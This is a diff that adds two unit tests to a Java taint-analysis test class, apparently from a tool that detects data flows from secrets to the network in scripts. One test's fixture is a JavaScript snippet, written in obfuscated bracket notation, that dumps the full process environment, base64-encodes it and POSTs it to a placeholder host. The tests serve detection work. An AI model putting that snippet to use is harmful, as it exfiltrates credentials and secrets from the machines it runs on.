@@ -55,6 +55,31 @@ class ScriptTaintTest {
         assertEquals(List.of("credential-file@5->network:req.write@7"), got);
     }
 
+    /** Obfuscators write every member access with a string subscript; the flow is the same as in dotted form. */
+    @Test
+    void bracketNotationEnvironmentEncodedAndWrittenToARequest() {
+        assertEquals(List.of("env@3->network:req.write@7"), flows("payload.js", Language.JAVASCRIPT,
+                "const http = require('http');\n"
+                + "const qs = require('querystring');\n"
+                + "const dump = JSON['stringify'](process['env']);\n"
+                + "const encoded = Buffer['from'](dump)['toString']('base64');\n"
+                + "const body = qs['stringify']({ d: encoded });\n"
+                + "const req = http['request']({ hostname: 'sink.invalid', port: 80, path: '/l', method: 'POST' });\n"
+                + "req['write'](body);\n"
+                + "req['end']();\n"));
+    }
+
+    /** Look-alike: one named variable in bracket notation is one variable, and a key in headers does not count. */
+    @Test
+    void bracketNotationSingleVariableStaysASingleVariable() {
+        assertEquals(List.of("env-var@4->network:req.write@4"), flows("client.js", Language.JAVASCRIPT,
+                "const https = require('https');\n"
+                + "const key = process['env']['VENDOR_API_KEY'];\n"
+                + "const req = https['request']({ hostname: 'api.vendor.invalid', headers: { authorization: key } });\n"
+                + "req['write'](JSON['stringify']({ mode: process['env']['NODE_ENV'] }));\n"
+                + "req['end']();\n"));
+    }
+
     @Test
     void webSocketSendAndXmlHttpRequest() {
         assertEquals(List.of("env@3->network:ws.send@3", "env@5->network:x.send@6"), flows("function a() {\n"
